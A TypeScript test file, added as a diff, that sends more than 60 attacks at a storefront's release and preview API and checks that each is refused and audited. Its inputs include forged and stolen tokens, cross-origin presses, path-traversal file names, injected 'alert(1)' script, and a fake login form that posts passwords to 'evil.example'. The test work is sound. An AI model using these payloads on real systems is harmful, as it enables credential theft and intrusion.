@@ -1,0 +1,589 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { BUNDLE_TYPE, type Preview, RELEASE_CALLS } from 'contract/releases';
+import { sampleScreen } from 'contract/testing';
+import type { InjectOptions, LightMyRequestResponse } from 'fastify';
+import { DAY_MS } from '../platform/time/time.js';
+import { createTestApp, type TestApp } from '../testing/createTestApp.js';
+import { integrityOf } from './store/ReleaseFiles.js';
+import { readRegistry } from './store/storedRegistry.js';
+import { createToken } from './teams.js';
+import { encodeBundle, remoteBundle, type SampleBundle, shellBundle } from './testing/bundles.js';
+import { PREVIEWS, SHOP } from './testing/previewShop.js';
+import { addTeam, createPublisher, gateSaid } from './testing/publisher.js';
+
+// Every attack on the way of a release, in one place: what is sent, and by whom; what is answered; and the one line that the
+// audit log has of it. None of them changes anything, so that one shop is enough for all.
+
+const ORDER = 'mf-order';
+const MEGABYTE = 1024 * 1024;
+const COOKIE = '__Host-preview';
+const EVIL = 'https://evil.example';
+
+let directory: string;
+let site: TestApp;
+/** By the name of the team or of what is wrong with it. */
+const tokens: Record<string, string> = {};
+/** Of team `orders`, and one of each kind that has ended. */
+const previews: Record<'open' | 'expired' | 'revoked' | 'gone', Preview> = {} as never;
+let fingerprint: string;
+
+beforeAll(async () => {
+  directory = await mkdtemp(join(tmpdir(), 'release-path-'));
+  const environment = {
+    ...{ STOREFRONT_DATA: directory, PUBLIC_ORIGIN: SHOP, PREVIEW_ORIGIN: PREVIEWS, APPROVE_SHELL: 'on' },
+    ...{ LIMIT_RELEASE_FAILURES_PER_ADDRESS: '10000', LIMIT_RELEASE_CALLS_PER_TEAM: '10000' },
+  };
+  site = await createTestApp({ environment });
+  const { db, clock } = site;
+  for (const [name, may] of [
+    ['orders', ORDER],
+    ['points', 'mf-point'],
+    ['frame', 'shell'],
+    ['half', 'shell'],
+    ['reader', '*'],
+    ['expired', '*'],
+    ['revoked', '*'],
+    ['crowd', '*'],
+  ] as const)
+    tokens[name] = await addTeam(site, name, may);
+  tokens['forged'] = createToken();
+  await db.updateTable('releaseTeams').set({ scopes: 'read' }).where('name', '=', 'reader').execute();
+  const ended = { expired: { expiresAt: clock.now() }, revoked: { revokedAt: clock.now() } };
+  for (const [name, end] of Object.entries(ended))
+    await db.updateTable('releaseTeams').set(end).where('name', '=', name).execute();
+  const [frame, orders, points] = ['frame', 'orders', 'points'].map((name) =>
+    createPublisher(site, tokens[name] ?? ''),
+  );
+  await frame?.publish({ shell: shellBundle('1') });
+  await orders?.publish({ [ORDER]: remoteBundle(ORDER, 'a') });
+  await points?.publish({ 'mf-point': remoteBundle('mf-point', 'p') });
+  for (const bundle of [
+    remoteBundle(ORDER, 'b'),
+    remoteBundle(ORDER, 'gone'),
+    remoteBundle(ORDER, 'of-point', { screens: [sampleScreen('/point')] }),
+    remoteBundle(ORDER, 'of-server', { screens: [sampleScreen('/releases/x')] }),
+    remoteBundle(ORDER, 'of-shell', { screens: [sampleScreen('/logout')] }),
+  ])
+    expect((await orders?.send(ORDER, bundle.record.version, encodeBundle(bundle)))?.statusCode).toBe(201);
+  // It waits.
+  await frame?.publish({ shell: shellBundle('2') });
+
+  const begin = async (version = 'b') => (await beginPreview('orders', { version })).json<Preview>();
+  previews.expired = await begin();
+  clock.advance(7 * DAY_MS);
+  previews.open = await begin();
+  previews.revoked = await begin();
+  await ask('orders', { method: 'DELETE', url: RELEASE_CALLS.preview(String(previews.revoked.id)) });
+  previews.gone = await begin('gone');
+  await db.updateTable('releaseVersions').set({ isLeaving: true }).where('version', '=', 'gone').execute();
+
+  expect((await send('crowd', encodeBundle(remoteBundle('mf-first', 'new')), 'new', 'mf-first')).statusCode).toBe(201);
+
+  const entries = [
+    {
+      kind: 'error',
+      package: ORDER,
+      version: 'a',
+      step: 'render',
+      message: 'broke',
+      frames: [`/remotes/${ORDER}/a/x.js:1:1`],
+    },
+  ];
+  await site.app.inject({
+    ...{ method: 'POST', url: '/reports', payload: { visit: site.deps.reports.signVisit(), entries } },
+  });
+  await site.deps.reports.write();
+  fingerprint = (await db.selectFrom('reportErrors').select('fingerprint').executeTakeFirstOrThrow()).fingerprint;
+}, 180_000);
+
+afterAll(async () => {
+  await site.close();
+  await rm(directory, { recursive: true });
+});
+
+type Answer = Promise<LightMyRequestResponse>;
+
+/** A call as a team, by one of `tokens`. */
+async function ask(as: string | null, { headers, ...call }: InjectOptions): Answer {
+  const authorization = as === null ? {} : { authorization: `Bearer ${tokens[as]}` };
+  return site.app.inject({ ...call, headers: { ...authorization, ...headers } });
+}
+
+const change = (as: string | null, action: string, more: object = {}): Answer =>
+  ask(as, {
+    ...{ method: 'POST', url: RELEASE_CALLS.changes },
+    payload: { action, name: ORDER, expected: { [ORDER]: 'a' }, gate: gateSaid(), ...more },
+  });
+const publish = (as: string, versions: Record<string, string>, more: object = {}): Answer =>
+  change(as, 'publish', {
+    versions,
+    expected: Object.fromEntries(Object.keys(versions).map((name) => [name, 'a'])),
+    ...more,
+  });
+const approve = (as: string, more: object = {}): Answer =>
+  change(as, 'approve', { name: 'shell', version: '2', ...more });
+const send = (as: string | null, payload: Buffer, version = 'new', name = ORDER): Answer =>
+  ask(as, {
+    ...{ method: 'PUT', url: RELEASE_CALLS.version(name, version), payload },
+    headers: { 'content-type': BUNDLE_TYPE },
+  });
+const sound = () => remoteBundle(ORDER, 'new');
+const beginPreview = (as: string | null, more: object = {}): Answer =>
+  ask(as, {
+    ...{ method: 'POST', url: RELEASE_CALLS.previews },
+    payload: { name: ORDER, version: 'b', gate: gateSaid('g'.repeat(43)), ...more },
+  });
+
+/** Every call of the release path, as it is made of team orders' package. */
+const CALLS: Readonly<Record<keyof typeof RELEASE_CALLS | 'send' | 'begin', (as: string | null) => Answer>> = {
+  registry: (as) => ask(as, { url: RELEASE_CALLS.registry }),
+  changes: (as) => change(as, 'disable'),
+  versions: (as) => ask(as, { url: RELEASE_CALLS.versions(ORDER) }),
+  version: (as) => ask(as, { url: RELEASE_CALLS.version(ORDER, 'a') }),
+  send: (as) => send(as, encodeBundle(sound())),
+  report: (as) => ask(as, { url: RELEASE_CALLS.report(ORDER, 'a') }),
+  health: (as) => ask(as, { url: `${RELEASE_CALLS.health}?name=${ORDER}` }),
+  errors: (as) => ask(as, { url: `${RELEASE_CALLS.errors}?name=${ORDER}` }),
+  error: (as) => ask(as, { url: RELEASE_CALLS.error(fingerprint) }),
+  log: (as) => ask(as, { url: `${RELEASE_CALLS.log}?name=${ORDER}` }),
+  previews: (as) => ask(as, { url: `${RELEASE_CALLS.previews}?name=${ORDER}` }),
+  begin: (as) => beginPreview(as),
+  preview: (as) => ask(as, { method: 'DELETE', url: RELEASE_CALLS.preview(String(previews.open.id)) }),
+  kit: (as) => ask(as, { url: RELEASE_CALLS.kit }),
+  kitVersion: (as) => ask(as, { url: RELEASE_CALLS.kitVersion }),
+};
+type Call = keyof typeof CALLS;
+const ALL = Object.keys(CALLS) as Call[];
+/** They are of no package, or show a team what is its own. */
+const OF_EVERYBODY: readonly Call[] = ['registry', 'kit', 'kitVersion'];
+const READS: readonly Call[] = [
+  'registry',
+  'versions',
+  'version',
+  'report',
+  'health',
+  'errors',
+  'error',
+  'log',
+  ...(['kit', 'kitVersion'] as const),
+];
+
+interface Attack {
+  name: string;
+  act: () => Answer;
+  status: number;
+  /** Of its line in the audit log: whose token it was, what for, and why not. */
+  by?: string;
+  reason: string;
+  action?: 'preview.refused';
+  /** Of the answer. */
+  says?: string;
+}
+
+const tokenAttacks: Attack[] = [
+  ...ALL.map((call) => ({
+    name: `${call} without a token`,
+    act: () => CALLS[call](null),
+    status: 401,
+    reason: 'token',
+  })),
+  ...(['registry', 'changes', 'send', 'begin'] as const).flatMap((call) => [
+    { name: `${call} with a made-up token`, act: () => CALLS[call]('forged'), status: 401, reason: 'token' },
+    {
+      name: `${call} with an expired token`,
+      act: () => CALLS[call]('expired'),
+      status: 401,
+      by: 'expired',
+      reason: 'expired',
+    },
+    {
+      name: `${call} with a revoked token`,
+      act: () => CALLS[call]('revoked'),
+      status: 401,
+      by: 'revoked',
+      reason: 'revoked',
+    },
+  ]),
+  ...['Basic', 'bearer', 'Bearer  ', ''].map((scheme) => ({
+    name: `a token as '${scheme}'`,
+    act: () => ask(null, { url: RELEASE_CALLS.registry, headers: { authorization: `${scheme} ${tokens['orders']}` } }),
+    ...{ status: 401, reason: 'token' },
+  })),
+  {
+    name: 'a token in the address',
+    act: () => ask(null, { url: `${RELEASE_CALLS.registry}?token=${tokens['orders']}` }),
+    ...{ status: 401, reason: 'token' },
+  },
+  {
+    name: 'the stored hash of a token',
+    act: async () => {
+      const row = await site.db
+        .selectFrom('releaseTeams')
+        .select('tokenHash')
+        .where('name', '=', 'orders')
+        .executeTakeFirstOrThrow();
+      return ask(null, { url: RELEASE_CALLS.registry, headers: { authorization: `Bearer ${row.tokenHash}` } });
+    },
+    ...{ status: 401, reason: 'token' },
+  },
+];
+
+const ofPoints = { by: 'points', reason: 'package', status: 403 };
+const stolenTokenAttacks: Attack[] = [
+  ...ALL.filter((call) => !OF_EVERYBODY.includes(call)).map((call) => ({
+    ...{ name: `${call} of another team’s package`, act: () => CALLS[call]('points'), ...ofPoints },
+  })),
+  ...(
+    [
+      ['publish', { versions: { [ORDER]: 'b' } }],
+      ['publish', { versions: { 'mf-point': 'p', [ORDER]: 'b' }, expected: { 'mf-point': 'p', [ORDER]: 'a' } }],
+      ['publish', { versions: { shell: '1' }, expected: { shell: '1' } }],
+      ['promote', { version: 'b', force: '급해요' }],
+      ['canary', { version: 'b', share: 1 }],
+      ['stop-canary', {}],
+      ['rollback', { version: 'b' }],
+      ['rollback', { name: 'shell', version: '2', expected: { shell: '1' } }],
+      ['enable', {}],
+      ['disable', { isTrial: true }],
+      ['approve', { name: 'shell', version: '2' }],
+    ] as const
+  ).map(([action, more], index) => ({
+    ...{
+      name: `${action} (${index + 1}) of another team’s package`,
+      act: () => change('points', action, more),
+      ...ofPoints,
+    },
+  })),
+];
+
+const scopeAttacks: Attack[] = [
+  ...ALL.filter((call) => !READS.includes(call)).map((call) => [call, () => CALLS[call]('reader')] as const),
+  ...(['publish', 'promote', 'canary', 'stop-canary', 'rollback', 'enable'] as const).map(
+    (action) =>
+      [action, () => change('reader', action, { versions: { [ORDER]: 'b' }, version: 'b', share: 1 })] as const,
+  ),
+  ['approve', () => approve('reader')] as const,
+].map(([what, act]) => ({
+  name: `${what} with a token that may read`,
+  act,
+  status: 403,
+  by: 'reader',
+  reason: 'scope',
+}));
+
+/** A sound build of mf-order, altered. */
+const altered = (alter: (bundle: SampleBundle) => Partial<SampleBundle>): Buffer => {
+  const bundle = sound();
+  return encodeBundle({ ...bundle, ...alter(bundle) });
+};
+const withRecord = (change_: object) => altered(({ record }) => ({ record: { ...record, ...change_ } as never }));
+const withFile = (path: string, text = 'x', isListed = false) =>
+  altered(({ record, files }) => ({
+    files: new Map([...files, [path, Buffer.from(text)]]),
+    ...(isListed && {
+      record: { ...record, files: { ...record.files, [path]: integrityOf(Buffer.from(text)) } } as never,
+    }),
+  }));
+const LOG_IN = `<form action="${EVIL}/take"><input name="password" type="password"></form>`;
+
+/** What browsers show as a document, whatever its extension is called. */
+const DOCUMENTS = ['html', 'htm', 'HTML', 'xhtml', 'xml', 'mhtml', 'pdf']
+  .map((kind) => `login.${kind}`)
+  .concat('login');
+
+const ofOrders = { by: 'orders', status: 422 };
+const packageAttacks: Attack[] = [
+  ...(
+    [
+      ['what is no bundle', () => Buffer.from('PK\u0003\u0004')],
+      ['a bundle that breaks off', () => encodeBundle(sound()).subarray(0, -1)],
+      ['a bundle with more behind it', () => Buffer.concat([encodeBundle(sound()), Buffer.from('x')])],
+      ['the record of another version', () => withRecord({ version: 'a' })],
+      ['the record of another package', () => withRecord({ base: '/remotes/mf-point/new/' })],
+      ['the record of another origin', () => withRecord({ base: `${EVIL}/` })],
+      ['the record of a shell', () => encodeBundle(shellBundle('new'))],
+      ['an entry that was not sent', () => withRecord({ entry: 'other.js' })],
+      ['a path that leads out', () => withFile('../x.js')],
+      ['an absolute path', () => withFile('/etc/x.js')],
+      ['a path with a backslash', () => withFile('..\\x.js')],
+      ['the record’s own name', () => withFile('version.json')],
+      ['a file that is a folder, too', () => withFile('remoteEntry.js/x.png')],
+      ['a hidden file', () => withFile('.htaccess')],
+      ['a script without integrity', () => withFile('extra.js')],
+      [
+        'an altered script',
+        () => altered(({ files }) => ({ files: new Map([...files, ['remoteEntry.js', Buffer.from('alert(1)')]]) })),
+      ],
+      ['a copy of something else', () => withFile('remoteEntry.js.br', 'alert(1)')],
+      ['a program', () => withFile('run.exe')],
+    ] as const
+  ).map(([what, payload]) => ({
+    ...{ name: `an upload: ${what}`, act: () => send('orders', payload()), reason: 'build', ...ofOrders },
+  })),
+  ...DOCUMENTS.map((path) => ({
+    ...{ name: `an upload: a page as ${path}`, act: () => send('orders', withFile(path, LOG_IN, true)), ...ofOrders },
+    ...{ reason: 'build', says: `${path} is of no kind that is served` },
+  })),
+  {
+    name: 'an upload: other bytes under a known version',
+    act: () => send('orders', encodeBundle(remoteBundle(ORDER, 'a', {}, { 'remoteEntry.js': 'alert(1)' })), 'a'),
+    ...{ ...ofOrders, status: 409, reason: 'build' },
+  },
+  ...['point', 'server', 'shell'].map((whose) => ({
+    name: `screens at an address of ${whose}’s`,
+    act: () => publish('orders', { [ORDER]: `of-${whose}` }),
+    ...{ reason: 'address', ...ofOrders },
+  })),
+  ...[undefined, { outcome: 'passed', report: null }].map((gate) => ({
+    name: `a publication whose gate has ${gate ? 'no report' : 'said nothing'}`,
+    act: () => publish('orders', { [ORDER]: 'b' }, { gate }),
+    ...{ by: 'orders', status: 403, reason: 'gate' },
+  })),
+];
+
+const approvalAttacks: Attack[] = [
+  {
+    ...{ name: 'an approval by the publisher itself', act: () => approve('frame') },
+    ...{ status: 403, by: 'frame', reason: 'own' },
+    says: 'Team frame has published shell 2 itself: another team approves it. Nothing was changed.',
+  },
+  {
+    name: 'a rollback to a shell that waits',
+    act: () => change('half', 'rollback', { name: 'shell', version: '2', expected: { shell: '1' } }),
+    ...{ status: 403, by: 'half', reason: 'unapproved' },
+    says: 'shell 2 was never live: publish it, and another team approves it.',
+  },
+  {
+    name: 'a canary of a shell that waits',
+    act: () => change('half', 'canary', { name: 'shell', version: '2', share: 1 }),
+    ...{ status: 422, by: 'half', reason: 'unapproved' },
+    says: 'A shell waits for the approval of another team here: publish it.',
+  },
+];
+
+const stored = (name: string, version: string, bytes: number) => ({
+  ...{ name, version, bytes, team: 'crowd', record: '{}', digest: null },
+  ...{ storedAt: site.clock.now(), usedUntil: site.clock.now() },
+});
+
+/** What fills a quota while an attack is made, and is gone after it. */
+const quotaAttacks: (Attack & { rows?: () => ReturnType<typeof stored>[] })[] = [
+  {
+    name: 'one version too many of a package',
+    rows: () => Array.from({ length: 200 }, (_, index) => stored('mf-crowd', `v${index}`, 1)),
+    says: 'mf-crowd has 200 versions in the store, as many as it may',
+  },
+  {
+    name: 'too many bytes of a package',
+    rows: () => [stored('mf-crowd', 'v', 256 * MEGABYTE)],
+    says: 'mf-crowd may store 256 MB',
+  },
+  {
+    name: 'too many bytes of a team',
+    rows: () => ['a', 'b', 'c', 'd'].map((name) => stored(`mf-${name}`, 'v', 256 * MEGABYTE)),
+    says: 'Team crowd may store 1024 MB',
+  },
+  {
+    name: 'too many new versions within an hour',
+    status: 429,
+    says: 'Team crowd may send 1 new versions an hour. Nothing was stored.',
+  },
+].map((row) => ({
+  ...{ status: 409, by: 'crowd', reason: 'quota' },
+  ...row,
+  act: async () => {
+    const { limits } = site.deps.config;
+    const max = limits.releaseVersionsPerTeam;
+    const rows = row.rows?.() ?? [];
+    if (rows.length > 0) await site.db.insertInto('releaseVersions').values(rows).execute();
+    else limits.releaseVersionsPerTeam = 1;
+    const answer = await send('crowd', encodeBundle(remoteBundle('mf-crowd', 'new')), 'new', 'mf-crowd');
+    limits.releaseVersionsPerTeam = max;
+    await site.db.deleteFrom('releaseVersions').where('record', '=', '{}').execute();
+    return answer;
+  },
+}));
+
+/** A visit as a browser makes it, each from a network of its own. */
+let network = 0;
+function visit(address: string, { headers, ...call }: InjectOptions = {}): Answer {
+  network += 1;
+  const { host, pathname, search } = new URL(address);
+  return site.app.inject({
+    ...{ ...call, url: pathname + search, remoteAddress: `198.51.${network}.1` },
+    headers: { accept: 'text/html', host, 'x-forwarded-proto': 'https', ...headers },
+  });
+}
+const press = (address: string, headers: Record<string, string> = {}) =>
+  visit(address, {
+    ...{ method: 'POST', payload: '' },
+    headers: {
+      'content-type': 'application/x-www-form-urlencoded',
+      ...{ origin: new URL(address).origin, 'sec-fetch-site': 'same-origin' },
+      ...headers,
+    },
+  });
+const linkOf = (signed: string) => `${PREVIEWS}/releases/preview/${signed}`;
+const signedOf = ({ link }: Preview) => link.split('/').at(-1) ?? '';
+const signatureOf = (preview: Preview) => signedOf(preview).split('.').at(-1) ?? '';
+const END = `${PREVIEWS}/releases/preview/end`;
+const FORGED = 'A'.repeat(43);
+
+const madeUp: readonly (readonly [what: string, signed: () => string])[] = [
+  ['a made-up signature', () => `${previews.open.id}.${FORGED}`],
+  ['the signature of another one', () => `${previews.open.id + 1}.${signatureOf(previews.open)}`],
+  ['a signature under a number with a zero before it', () => `0${signedOf(previews.open)}`],
+  ['no signature', () => String(previews.open.id)],
+  ['what a browser has after the press', () => cookieOfPress.value],
+];
+/** As it is after a press, by the first test. */
+const cookieOfPress = { value: '' };
+
+const ofPreview = { action: 'preview.refused' as const };
+const notFound = {
+  status: 404,
+  reason: 'preview.forged',
+  says: '<h1>미리보기 링크를 찾을 수 없어요</h1>',
+  ...ofPreview,
+};
+const notFromHere = { status: 403, reason: 'origin', says: '<h1>이 주소에서 다시 눌러 주세요</h1>', ...ofPreview };
+const previewAttacks: Attack[] = [
+  ...madeUp.flatMap(([what, signed]) => [
+    {
+      name: `a link with ${what}`,
+      act: () => visit(linkOf(signed())),
+      ...notFound,
+    },
+    {
+      name: `a press with ${what}`,
+      act: () => press(linkOf(signed())),
+      ...notFound,
+    },
+  ]),
+  ...(
+    [
+      ['a made-up signature', () => `${previews.open.id}.${FORGED}`],
+      ['what a link has', () => signedOf(previews.open)],
+    ] as const
+  ).map(([what, signed]) => ({
+    name: `a cookie with ${what}`,
+    act: () => visit(`${PREVIEWS}/order`, { headers: { cookie: `${COOKIE}=${signed()}` } }),
+    ...{ status: 404, reason: 'preview.forged', ...ofPreview },
+  })),
+  ...(
+    [
+      ['another site', { origin: EVIL, 'sec-fetch-site': 'cross-site' }],
+      ['the shop', { origin: SHOP, 'sec-fetch-site': 'cross-site' }],
+      ['a site beside it', { origin: PREVIEWS, 'sec-fetch-site': 'same-site' }],
+      ['nowhere', { origin: 'null', 'sec-fetch-site': 'cross-site' }],
+      ['a page that hides where it is', { origin: '' }],
+      ['a name that looks like it', { origin: `${PREVIEWS}.evil.example` }],
+    ] as const
+  ).flatMap(([from, headers]) => [
+    {
+      name: `a press from ${from}`,
+      act: () => press(previews.open.link, headers),
+      ...notFromHere,
+    },
+    { name: `an end from ${from}`, act: () => press(END, headers), ...notFromHere },
+  ]),
+  {
+    name: 'a link on the shop’s own origin',
+    act: () => visit(SHOP + new URL(previews.open.link).pathname),
+    ...{ status: 404, reason: 'preview.elsewhere', ...ofPreview },
+  },
+  {
+    name: 'a press on the shop’s own origin',
+    act: () => press(SHOP + new URL(previews.open.link).pathname),
+    ...{ status: 403, reason: 'origin', ...ofPreview },
+  },
+  ...(['expired', 'revoked', 'gone'] as const).flatMap((end) => [
+    {
+      name: `a link that is ${end}`,
+      act: () => visit(previews[end].link),
+      status: 410,
+      reason: `preview.${end}`,
+      ...ofPreview,
+    },
+    {
+      name: `a press that is ${end}`,
+      act: () => press(previews[end].link),
+      status: 410,
+      reason: `preview.${end}`,
+      ...ofPreview,
+    },
+  ]),
+];
+
+const ATTACKS: readonly Attack[] = [
+  ...tokenAttacks,
+  ...stolenTokenAttacks,
+  ...scopeAttacks,
+  ...packageAttacks,
+  ...approvalAttacks,
+  ...quotaAttacks,
+  ...previewAttacks,
+];
+
+const refusals = () =>
+  site.db
+    .selectFrom('audit')
+    .select(['actor', 'action', 'detail'])
+    .where('action', 'in', ['team.refused', 'preview.refused'])
+    .orderBy('id')
+    .execute();
+
+/** What an attack could have changed. */
+async function look() {
+  const { db } = site;
+  const others = db.selectFrom('audit').select(({ fn }) => fn.countAll<number>().as('lines'));
+  return [
+    await readRegistry(db),
+    await db
+      .selectFrom('releaseVersions')
+      .select(['name', 'version', 'digest'])
+      .orderBy('name')
+      .orderBy('version')
+      .execute(),
+    await db.selectFrom('releasePreviews').select(['id', 'revokedAt']).orderBy('id').execute(),
+    await db.selectFrom('releaseWaiting').select('version').execute(),
+    await others.where('action', 'not in', ['team.refused', 'preview.refused']).executeTakeFirst(),
+  ];
+}
+
+beforeAll(async () => {
+  const [cookie] = (await press(previews.open.link)).cookies;
+  cookieOfPress.value = cookie?.value ?? '';
+});
+
+// B-release-46, B-release-114, B-release-118, B-release-44, B-release-107, B-release-125, B-preview-8, B-preview-12
+it.each(ATTACKS)('$name is refused, changes nothing, and is in the audit log', async (attack) => {
+  const { act, status, by = 'unknown', reason, action = 'team.refused', says = '' } = attack;
+  const before = await look();
+  const known = (await refusals()).length;
+  const answer = await act();
+  expect(answer.statusCode).toBe(status);
+  expect(answer.body).toContain(says);
+  expect(answer.cookies).toEqual([]);
+  // Its words, and nothing of what was asked for.
+  if (action === 'team.refused') expect(Object.keys(answer.json()).sort()).toEqual(['code', 'message', 'statusCode']);
+  const told = (await refusals()).slice(known);
+  expect(told).toMatchObject([{ actor: by, action, detail: { reason, address: expect.any(String) } }]);
+  expect(await look()).toEqual(before);
+});
+
+it('they are at least 60, and every call of the release path is among them', () => {
+  expect(new Set(ATTACKS.map(({ name }) => name)).size).toBe(ATTACKS.length);
+  expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
+  expect(Object.keys(RELEASE_CALLS).filter((call) => !(call in CALLS))).toEqual([]);
+});
+
+// B-release-46, B-release-119, B-release-121, B-release-122, B-preview-3
+it('a stolen token shows of the shop what is its team’s own alone', async () => {
+  const registry = (await CALLS.registry('points')).json();
+  expect([Object.keys(registry.publications), registry.waiting]).toEqual([['mf-point'], []]);
+  for (const url of [RELEASE_CALLS.health, RELEASE_CALLS.errors, RELEASE_CALLS.log, RELEASE_CALLS.previews])
+    expect([url, (await ask('points', { url })).body.includes(ORDER)]).toEqual([url, false]);
+});
